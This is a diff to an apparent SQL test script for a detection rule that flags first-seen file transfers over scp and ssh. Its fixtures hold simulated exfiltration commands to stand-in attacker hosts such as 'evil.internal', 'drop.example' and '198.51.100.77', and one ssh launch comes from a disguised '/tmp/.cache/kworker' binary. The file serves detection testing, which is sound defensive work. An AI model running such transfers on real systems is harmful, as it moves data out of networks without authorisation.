@@ -44,6 +44,9 @@ SELECT a.address, remote_class(a.address, 'web-1.corp.example') FROM unnest('{8.
 -- a name without a domain that the fleet does not know: ssh_config may make it anything, so it is new for the role, once
 CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a jump:', 'scp a jump:');
 CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a jump:');
+-- nor does a domain that anybody may use make a name known
+CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a u@evil.internal:', 'scp a u@evil.internal:', 'scp a u@web-2.internal:');
+CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a u@EVIL.internal:', 'scp a u@evil.local:');
 -- outside, for each host
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-2.corp.example', 'scp a u@drop.example:');
@@ -69,6 +72,15 @@ SELECT pg_temp.launch('2026-11-20 03:01Z', 'web-1.corp.example', 'ssh -x -oForwa
 	pg_temp.launch('2026-11-20 03:04Z', 'web-2.corp.example', 'ssh u@203.0.113.9 uptime', '/tmp/.cache/kworker');
 SELECT alerts_created FROM backfill('first-seen-transfer-by-ssh', '2026-11-20 03:00Z', '2026-11-20 04:00Z');
 SELECT host_names, unnest(reasons) AS reason FROM alerts WHERE rule_id = 'first-seen-transfer-by-ssh' ORDER BY id;
+
+-- an event without host.name has host.hostname, or its agent at least
+INSERT INTO events (timestamp, agent_id, host_name, host_hostname, host_os_type, event_type, event_action, process_name, process_executable, process_command_line, process_parent_executable)
+SELECT '2026-11-20 09:10Z', h.agent, h.name, h.hostname, 'linux', '{start}', '{exec}', 'scp', '/usr/bin/scp', h.command, '/usr/sbin/cron'
+FROM (VALUES ('a', NULL, 'web-3', 'scp a u@198.51.100.77:'), ('b', 'web-4.corp.example', 'web-4', 'scp a u@198.51.100.77:'), ('c', NULL, NULL, 'scp a u@198.51.100.77:'), ('d', NULL, 'web-3', 'scp a u@web-3:'), (NULL, NULL, NULL, 'scp a u@198.51.100.77:')) AS h(agent, name, hostname, command);
+SELECT alerts_created FROM backfill(:rule, '2026-11-20 09:00Z', '2026-11-20 10:00Z');
+SELECT host_names, agent_ids, unnest(reasons) AS reason FROM alerts WHERE rule_id = :rule AND status = 'open' ORDER BY id;
+SELECT name, role FROM fleet_hosts WHERE name LIKE 'web-3%' OR name LIKE 'web-4%' ORDER BY name;
+SELECT count(*) AS evidence FROM alerts AS a CROSS JOIN LATERAL alert_events(a.id) AS e WHERE a.rule_id = :rule AND a.status = 'open';
 
 -- what goes with a rule that is deleted
 INSERT INTO rules (rule_id, name, query) VALUES ('mine', 'Mine', 'FROM logs-endpoint.events.process-* | WHERE transfer.utility == "scp" | KEEP @timestamp, host.name, process.executable');
